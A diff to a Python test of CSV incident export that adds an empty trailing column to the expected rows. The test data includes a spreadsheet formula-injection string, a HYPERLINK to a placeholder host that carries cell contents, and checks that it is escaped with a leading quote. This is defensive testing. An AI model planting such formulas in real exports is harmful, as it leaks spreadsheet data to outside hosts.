@@ -74,10 +74,10 @@ def test_csv_is_one_quoted_row_an_incident(store):
         *("1", "2026-11-24T12:00:00+00:00", "new", "", "C1", "U1", "", "", "1", "mailbox-unknown"),
         *("550-user-unknown", "domain-typo", "postfix", "550", "5.1.1"),
         '\'=HYPERLINK("http://x.example/"&A1),\n|`*bold*` <b>x</b>',
-        *("ana@example.com", "", "", "", ""),
+        *("ana@example.com", "", "", "", "", ""),
     ]
     assert (second[2], second[3]) == ("resolved", "2026-11-24T12:00:00+00:00")
-    assert second[16:] == ["'-ben@example.com", "wait", "", "'=ana@example.com", "mx.example"]
+    assert second[16:] == ["'-ben@example.com", "wait", "", "'=ana@example.com", "mx.example", ""]
     assert [line[:1] + line[-1:] for line in text.split("\r\n")] == ['""', '""', '""', ""]
 
 
